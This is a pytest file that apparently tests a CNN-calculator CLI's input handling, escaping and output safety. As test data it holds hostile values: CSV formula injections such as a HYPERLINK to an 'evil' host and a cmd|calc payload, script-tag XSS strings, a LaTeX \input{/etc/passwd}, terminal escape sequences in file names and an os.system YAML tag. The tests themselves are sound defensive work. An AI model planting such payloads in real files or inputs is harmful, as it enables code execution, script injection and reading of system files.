"""Untrusted input, safe output: no leaks, no hangs, no forged output.

1. errors about a file that is not a spec quote nothing of it; devices are never opened, FIFOs are read within the size limit;
2. every -o goes through one writer;
3. names are printable (checked at load) and every output format escapes what else they hold;
4. JSON output is strict JSON;
5. the graph's own nodes never collide with a layer's name;
6. the gradebook CSV, Gradescope's results folder and ONNX file names are escaped; key ids follow the name policy.
"""

import csv
import io
import json
import os
import re
import time
import xml.etree.ElementTree as ElementTree

import pytest

from cli_runner import invoke, ok
from cnncalc.render.table import table_formats
from helpers import assert_one_line_error, relu_chain, run_cnncalc

SECRET = "root:*:20228:0:99999:7:::"


# --- 1. errors about files that are not specs quote nothing of them -----------------------------

@pytest.mark.parametrize("text", [
    SECRET + "\nbin:*:20228:0:99999:7:::\n",                        # /etc/shadow: a YAML mapping of one key
    "Name:\tcat\nUmask:\t0022\nState:\tR (running)\n",             # /proc/self/status
    "processor\t: 0\nmodel name\t: Secret CPU\n\nprocessor\t: 1\nmodel name\t: Secret CPU\n",  # /proc/cpuinfo
    "password: hunter2\npassword: hunter3\n",                       # a duplicate key
    "token: [hunter2\n",                                           # a YAML syntax error
    "key: !!python/object/apply:os.system [hunter2]\n",            # a refused tag
    "- hunter2\n- {secret: hunter2}\n",                            # YAML, not a mapping
], ids=["shadow", "proc-status", "cpuinfo", "duplicate-key", "syntax-error", "tag", "list"])
def test_a_file_that_is_not_a_spec_is_not_quoted(write, text):
    path = write(text, "secret")
    for command in ("report", "validate", "graph"):
        message = assert_one_line_error(invoke(command, path), path)
        for word in ("root", "hunter", "Secret", "processor", "Name", "Umask", "password", "token", "python"):
            assert word not in message.replace(path, ""), message
        assert "not a cnncalc spec" in message or "must be a mapping" in message


def test_check_does_not_quote_a_spec_file_that_is_not_a_spec(write):
    write(SECRET + "\n", "shadow.yaml")
    answers = write("spec: shadow.yaml\nanswers:\n  - {layer: total, params: 1}\n", "answers.yaml")
    result = invoke("check", answers)
    assert result.exit_code == 1
    assert "root:" not in result.stdout + result.stderr and "20228" not in result.stdout + result.stderr


@pytest.mark.parametrize("path", ["/etc/shadow", "/proc/self/status", "/proc/cpuinfo", "/etc/passwd"])
def test_system_files_are_not_quoted(path):
    if not os.path.isfile(path):
        pytest.skip(f"no {path} here")
    result = invoke("report", path)
    message = assert_one_line_error(result, path)
    assert message.startswith(f"error: {path}") and len(message) < len(path) + 150
    assert not re.search(r"'(root|Name|processor)", message), message


def test_a_spec_with_a_syntax_error_still_gets_the_details(write):
    path = write("input: [3, 8, 8]\nlayers: [{type: relu}\n")
    assert_one_line_error(invoke("validate", path), "YAML syntax error", f"{path}:")


@pytest.mark.parametrize("device, fragment", [("/dev/zero", "is a device"), ("/dev/null", "is a device")])
def test_devices_are_refused_before_opening(device, fragment):
    if not os.path.exists(device):
        pytest.skip(f"no {device}")
    assert_one_line_error(invoke("validate", device), fragment, "not a spec file")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_fifo_does_not_hang(tmp_path):
    fifo = tmp_path / "spec.yaml"
    os.mkfifo(fifo)
    started = time.perf_counter()
    done = run_cnncalc("validate", fifo, timeout=30)  # read as a pipe: nobody writes, so it is empty
    assert done.returncode == 1 and "the spec is empty" in done.stderr, done.stderr
    assert time.perf_counter() - started < 20


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_fifo_or_device_named_like_a_model_does_not_hang(tmp_path):
    fifo = tmp_path / "model.onnx"
    os.mkfifo(fifo)
    done = run_cnncalc("report", fifo, timeout=30)
    assert done.returncode == 1 and "not an ONNX model" in done.stderr, done.stderr
    if os.path.exists("/dev/zero"):
        (tmp_path / "zero.onnx").symlink_to("/dev/zero")
        done = run_cnncalc("report", tmp_path / "zero.onnx", timeout=30)
        assert done.returncode == 1 and "is a device" in done.stderr, done.stderr


def test_folder_and_binary_file(write, tmp_path):
    assert_one_line_error(invoke("report", tmp_path), "is a directory")
    assert_one_line_error(invoke("report", write(b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)), "ls")),
                   "not a text file (binary data)")


# --- 2. -o through one writer --------------------------------------------------------------------

@pytest.mark.parametrize("command", [["report", "lenet5"], ["compare", "lenet5", "alexnet"], ["graph", "lenet5"],
                                     ["schema"]])
def test_every_output_option_creates_folders_and_refuses_special_files(tmp_path, command):
    target = tmp_path / "new" / "folder" / "out.txt"
    result = invoke(*command, "-o", target)
    assert result.exit_code == 0, result.stderr
    assert target.read_text(encoding="utf-8").strip() and result.stdout == ""
    assert [p.name for p in target.parent.iterdir()] == ["out.txt"]  # no temporary file left behind
    assert_one_line_error(invoke(*command, "-o", tmp_path), "cannot write", "a folder")
    if os.path.exists("/dev/full"):
        assert_one_line_error(invoke(*command, "-o", "/dev/full"), "cannot write", "not a regular file")


# --- 3. names and escaping -----------------------------------------------------------------------

@pytest.mark.parametrize("name, fragment", [
    ("a\\nb", "a line break (U+000A)"),
    ("a\\e[2Jb", "a control character (U+001B)"),
    ("a\\x07b", "a control character (U+0007)"),
    ("a\\x7fb", "a control character (U+007F)"),
    ("a\\x85b", "a line break (U+0085)"),
    ("a\\x9bb", "a control character (U+009B)"),
    ("a\\u202Egnp", "direction-changing character (U+202E)"),
    ("a\\u200Bb", "direction-changing character (U+200B)"),
    ("a\\u2028b", "a line break (U+2028)"),
    ("a\\tb", "a control character (U+0009)"),
])
def test_names_may_hold_only_printable_characters(write, name, fragment):
    layer = write(f'input: [3, 8, 8]\nlayers:\n  - {{name: "{name}", type: relu}}\n')
    assert_one_line_error(invoke("report", layer), f"{layer}:3:", "'name' holds", fragment)
    network = write(f'name: "{name}"\ninput: [3, 8, 8]\nlayers: [{{type: relu}}]\n', "net.yaml")
    assert_one_line_error(invoke("compare", network), f"{network}:1:", "'name' holds", fragment)
    source = write(f'source: "{name}"\ninput: [3, 8, 8]\nlayers: [{{type: relu}}]\n', "src.yaml")
    assert_one_line_error(invoke("validate", source), f"{source}:1:", "'source' holds", fragment)


def test_name_lengths_are_bounded(write):
    assert_one_line_error(invoke("report", write(f"input: [3, 8, 8]\nlayers: [{{name: {'n' * 101}, type: relu}}]\n")),
                   "101 characters long; the limit is 100")
    blocks = "blocks:\n" + "".join(f"  b{i}: {{layers: [{{name: {'x' * 90}, type: b{i + 1}}}]}}\n" for i in range(3))
    blocks += "  b3: {layers: [{type: relu}]}\n"
    assert_one_line_error(invoke("report", write("input: [3, 8, 8]\n" + blocks + "layers: [{name: top, type: b0}]\n")),
                   "full name is", "the limit is 200")


HOSTILE_NAMES = ['=HYPERLINK("http://evil/?"&A1)', "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                 "a|b|c", "\\\\input{/etc/passwd}", "$\\\\frac{", "@SUM(1+1)", "-2+3", "+cmd", ".. include:: x",
                 "`x <javascript:alert(1)>`_", "#lt;script#gt;", "{{Template}}", "[[Category:x]]"]


@pytest.fixture
def hostile_spec(write):
    layers = "".join(f"  - {{name: {json.dumps(name)}, type: relu}}\n" for name in HOSTILE_NAMES)
    return write(f"name: {json.dumps('<script>x</script>|=1+1')}\ninput: [3, 8, 8]\nlayers:\n{layers}", "hostile.yaml")


RAW_MARKUP = ("<script>", "<img")
PIPE_FORMATS = ("github", "pipe", "jira", "orgtbl", "mediawiki", "textile", "moinmoin", "youtrack", "asciidoc")
MARKUP_FORMATS = ("html", "unsafehtml", "github", "pipe", "mediawiki", "textile", "moinmoin", "youtrack")


@pytest.mark.parametrize("fmt", table_formats())
def test_every_report_format_escapes_names(hostile_spec, fmt):
    out = ok("report", hostile_spec, "-f", fmt, "--columns", "name,output")
    assert "\x1b" not in out and not any(c for c in out if not (c.isprintable() or c in "\n\t"))
    if fmt in MARKUP_FORMATS:
        assert not any(markup in out for markup in RAW_MARKUP), out
    if fmt in PIPE_FORMATS:
        assert "a|b|c" not in out
    if fmt.startswith("latex"):
        assert "\\input{" not in out and "$\\frac" not in out
    if fmt == "rst":
        assert not re.search(r"^\s*\.\. include::", out, re.MULTILINE) and not re.search(r"(?<!\\)`", out)
    if fmt == "tsv":
        assert all(line.count("\t") == 1 for line in out.splitlines() if "\t" in line)
    if fmt == "csv":
        cells = [cell for line in out.splitlines() for cell in line.split(",")]
        assert not [cell for cell in cells if cell.lstrip('"')[:1] in ("=", "+", "-", "@")], out
        assert "'=HYPERLINK" in out and "'@SUM" in out and "'-2+3" in out and "'+cmd" in out


@pytest.mark.parametrize("fmt", ["simple", "github", "html", "latex_raw", "mediawiki", "csv", "json"])
def test_compare_escapes_network_names(hostile_spec, fmt):
    out = ok("compare", "lenet5", hostile_spec, "-f", fmt)
    if fmt not in ("json", "csv", "simple"):
        assert "<script>" not in out
    if fmt == "csv":
        assert not [line for line in out.splitlines() if line[:1] in "=+-@"]
    if fmt == "json":
        json.loads(out)
    # a ratio line per model after the first: the name cannot add another
    if fmt == "simple":
        assert sum(" vs LeNet-5: " in line for line in out.splitlines()) == 1


def test_graph_escapes_markup(hostile_spec):
    mermaid = ok("graph", hostile_spec, "-f", "mermaid")
    assert not any(markup in mermaid for markup in RAW_MARKUP)
    assert "#35;lt;script#35;gt;" in mermaid  # a name written as Mermaid entity codes stays text
    assert mermaid.splitlines()[1].startswith('title: "')
    dot = ok("graph", hostile_spec)
    assert all(line.count('"') % 2 == 0 or '\\"' in line for line in dot.splitlines())


@pytest.mark.slow
def test_plot_draws_hostile_names(hostile_spec, tmp_path):
    pytest.importorskip("matplotlib")
    target = tmp_path / "plot.svg"
    result = invoke("plot", hostile_spec, "-o", target)
    assert result.exit_code == 0, (result.stderr, result.exception)
    root = ElementTree.parse(target).getroot()  # valid XML
    assert root.tag.endswith("svg")
    text = target.read_text(encoding="utf-8")
    assert "<script>" not in text


def test_plot_writes_through_the_shared_writer(tmp_path):
    pytest.importorskip("matplotlib")
    target = tmp_path / "made" / "here.png"
    result = invoke("plot", "lenet5", "-o", target)
    assert result.exit_code == 0, result.stderr
    assert target.read_bytes().startswith(b"\x89PNG")
    assert [p.name for p in target.parent.iterdir()] == ["here.png"]
    assert_one_line_error(invoke("plot", "lenet5", "-o", tmp_path / "made"), "the plot file must end in", code=2)


def test_file_names_are_printed_escaped(tmp_path):
    path = tmp_path / "evil\x1b[2J\nok: forged.yaml"
    path.write_text("input: [3, 8, 8]\nlayers: [{type: relu}]\n", encoding="utf-8")
    result = invoke("validate", "-v", path)
    assert result.exit_code == 0
    assert "\x1b" not in result.stdout and len(result.stdout.strip().splitlines()) == 1
    bad = tmp_path / "bad\x1b]0;title\x07.yaml"
    bad.write_text("", encoding="utf-8")
    message = assert_one_line_error(invoke("validate", bad), "the spec is empty")
    assert "\x1b" not in message and "\x07" not in message


# --- 4. strict JSON ------------------------------------------------------------------------------

def _strict(text):
    def refuse(constant):
        raise AssertionError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


def test_json_outputs_are_strict(hostile_spec):
    _strict(ok("report", hostile_spec, "-f", "json"))
    _strict(ok("compare", "lenet5", hostile_spec, "-f", "json"))
    _strict(ok("layer", "conv", "--input", "8x8x3", "--filters", "2", "--kernel", "1", "-f", "json"))
    from cnncalc.render.data import render_json

    with pytest.raises(ValueError):
        render_json({"x": float("nan")})


# --- 5. the graph's own nodes --------------------------------------------------------------------

DOT_EDGE = re.compile(r'^\s*"([^"]+)" -> "([^"]+)" \[label="([^"]*)"\];$')


def test_a_layer_named_output_keeps_its_edges():
    edges = [DOT_EDGE.match(line).groups() for line in ok("graph", "lenet5").splitlines() if "->" in line]
    assert ("F6", "output", "84") in edges  # the layer called output
    assert edges[-1] == ("output", "output_", "10")  # the network's output, apart from it
    mermaid = ok("graph", "lenet5", "-f", "mermaid")
    assert mermaid.count('(["output"])') == 1 and '["output<br/>fc, 10"]' in mermaid


def test_layers_named_like_the_fallback_ids(write):
    path = write("input: [3, 8, 8]\nlayers:\n  - {name: output, type: relu}\n  - {name: output_, type: relu}\n")
    edges = [DOT_EDGE.match(line).groups() for line in ok("graph", path).splitlines() if "->" in line]
    assert edges == [("input", "output", "3x8x8"), ("output", "output_", "3x8x8"), ("output_", "output__", "3x8x8")]


# --- 6. the gradebook, Gradescope's folder, key ids, ONNX names: escaped ------------------------------


def test_the_gradebook_escapes_submission_names(write, tmp_path, monkeypatch):
    key = write("spec: alexnet\nquestions:\n  - {layer: conv1, quantity: params}\n", "key.yaml")
    write("q1: 23296\n", "=cmd|' calc'!A0.yaml")
    write("q1: 23296\n", "a\n=HYPERLINK(1),1,1,1,1,.yaml")
    write("- not a mapping\n", "@evil.yaml")
    monkeypatch.chdir(tmp_path)
    result = invoke("check", "--key", key, "=cmd|' calc'!A0.yaml", "a\n=HYPERLINK(1),1,1,1,1,.yaml", "@evil.yaml",
                    "-f", "csv")
    assert result.exit_code == 1, result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == 4, lines  # a header and one line per submission: no forged row
    rows = list(csv.reader(io.StringIO(result.stdout)))[1:]
    for row in rows:
        for cell in (row[0], row[5]):
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
            assert cell.isprintable(), row
    assert rows[0][0] == "'=cmd|' calc'!A0.yaml" and rows[1][0] == "a\\n=HYPERLINK(1),1,1,1,1,.yaml"
    assert rows[2][5].startswith("'@evil.yaml")


def test_gradescope_results_files_are_named_escaped(write, tmp_path):
    key = write("spec: alexnet\nquestions:\n  - {layer: conv1, quantity: params}\n", "key.yaml")
    first = write("q1: 23296\n", "new\nline\x1b[2J.yaml")
    second = write("q1: 1\n", "bob.yaml")
    out = tmp_path / "results"
    result = invoke("check", "--key", key, first, second, "-f", "gradescope", "-o", out)
    assert result.exit_code == 1, result.stderr
    assert sorted(os.listdir(out)) == ["bob.json", "new\\nline\\x1b[2J.json"]


def test_gradescope_folder_does_not_follow_a_symbolic_link(write, tmp_path):
    key = write("spec: alexnet\nquestions:\n  - {layer: conv1, quantity: params}\n", "key.yaml")
    victim = write("precious\n", "victim.txt")
    out = tmp_path / "results"
    out.mkdir()
    (out / "alice.json").symlink_to(victim)
    result = invoke("check", "--key", key, write("q1: 23296\n", "alice.yaml"), write("q1: 1\n", "bob.yaml"),
                    "-f", "gradescope", "-o", out)
    assert result.exit_code == 1, result.stderr
    assert open(victim).read() == "precious\n"
    assert not os.path.islink(out / "alice.json") and '"score"' in (out / "alice.json").read_text()


@pytest.mark.parametrize("question, fragment", [
    ("{id: \"q1\\e[31m\", layer: conv1, quantity: params}", "control character"),
    ("{id: \"q1\\nq2\", layer: conv1, quantity: params}", "line break"),
    ("{id: [1], layer: conv1, quantity: params}", "must be text"),
    ("{id: " + "q" * 101 + ", layer: conv1, quantity: params}", "the limit is 100"),
])
def test_key_question_ids_follow_the_name_policy(write, question, fragment):
    key = write(f"spec: alexnet\nquestions:\n  - {question}\n", "key.yaml")
    assert_one_line_error(invoke("check", "--key", key, write("q1: 1\n", "s.yaml")), fragment, "key.yaml:3")


@pytest.mark.parametrize("file", ["new\nline\x1b[2J.onnx", "n" * 150 + ".onnx"])
def test_onnx_file_and_producer_names_are_shown_escaped(tmp_path, file):
    path = relu_chain(tmp_path, 2, file=file, producer="evil\nsource: x\x1b[31m" * 80)
    result = invoke("report", path, "-f", "json")
    assert result.exit_code == 0, result.stderr
    assert "\\u001b" not in result.stdout and "\\n" not in result.stdout.replace("\\\\n", "")
    imported = tmp_path / "imported.yaml"
    result = invoke("import", path, "-o", imported)
    assert result.exit_code == 0, result.stderr
    assert invoke("report", imported).exit_code == 0
